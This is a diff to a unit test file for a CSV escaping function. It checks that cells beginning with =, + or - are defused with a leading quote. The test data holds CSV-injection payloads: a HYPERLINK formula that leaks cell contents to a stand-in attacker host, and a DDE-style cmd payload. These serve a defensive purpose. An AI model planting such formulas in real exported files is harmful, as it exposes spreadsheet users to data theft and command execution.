@@ -55,7 +55,9 @@ describe("csvField (RFC 4180)", () => {
   });
 
   it("defuses cells a spreadsheet would run as a formula, with a leading single quote", () => {
-    expect(csvField('=HYPERLINK("http://evil.example/?leak="&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
+    expect(csvField('=HYPERLINK("http://evil.example/?leak="&A1,"click")')).toBe(
+      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`,
+    );
     expect(csvField("=SUM(A1)")).toBe("'=SUM(A1)");
     expect(csvField("+1+cmd|' /C calc'!A0")).toBe("'+1+cmd|' /C calc'!A0");
     expect(csvField("-2+3")).toBe("'-2+3");
